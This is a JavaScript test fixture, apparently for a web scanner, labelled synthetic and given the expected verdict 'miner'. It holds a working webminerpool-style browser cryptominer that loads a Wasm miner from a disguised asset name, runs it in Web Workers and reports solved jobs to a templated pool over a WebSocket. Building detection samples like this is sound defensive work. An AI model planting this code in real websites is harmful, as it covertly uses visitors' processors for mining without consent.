/* webscan fixture (synthetic): a webminerpool-style client. It really mines with the light
 * Wasm miner in file workers and speaks handshake/job/solved/hashsolved to the stub pool.
 * Static verdict: miner. */
var server = "{{POOL}}/pool/wmp";
var workers = [], ws = null, job = null, totalhashes = 0, throttleMiner = 0;
var sendStack = [], receiveStack = [], connected = 0, handshake = null;
var workerUrl = new URL("/lib/wmp-worker.js", document.currentScript.src).href;
var wasmUrl = new URL("/assets/fx.dat", document.currentScript.src).href;

function addWorker() {
  var w = new Worker(workerUrl), i = workers.length;
  w.onmessage = function (e) {
    if (e.data === "hash") { totalhashes++; return; }
    if (job && e.data.job_id === job.job_id && ws && ws.readyState === 1) {
      ws.send(JSON.stringify({ identifier: "solved", job_id: e.data.job_id, nonce: e.data.nonce, result: e.data.result }));
    }
  };
  w.postMessage({ wasm: wasmUrl, throttle: throttleMiner });
  if (job) w.postMessage({ job: job, start: (i * 0x10000000) >>> 0, throttle: throttleMiner });
  workers.push(w);
}
function removeWorker() { var w = workers.pop(); if (w) w.terminate(); }
function deleteAllWorkers() { while (workers.length) removeWorker(); }

function startMining(pool, login, password, numThreads) {
  handshake = { identifier: "handshake", pool: pool, login: login, password: password, userid: "", version: 7 };
  for (var i = 0; i < numThreads; i++) addWorker();
  ws = new WebSocket(server);
  ws.onopen = function () { connected = 1; ws.send(JSON.stringify(handshake)); };
  ws.onmessage = function (e) {
    var obj = JSON.parse(e.data);
    receiveStack.push(obj);
    if (obj.identifier === "job") {
      job = obj;
      workers.forEach(function (w, i) { w.postMessage({ job: job, start: (i * 0x10000000) >>> 0, throttle: throttleMiner }); });
    }
  };
  ws.onclose = function () { connected = 0; };
}
function stopMining() { deleteAllWorkers(); if (ws) ws.close(); }
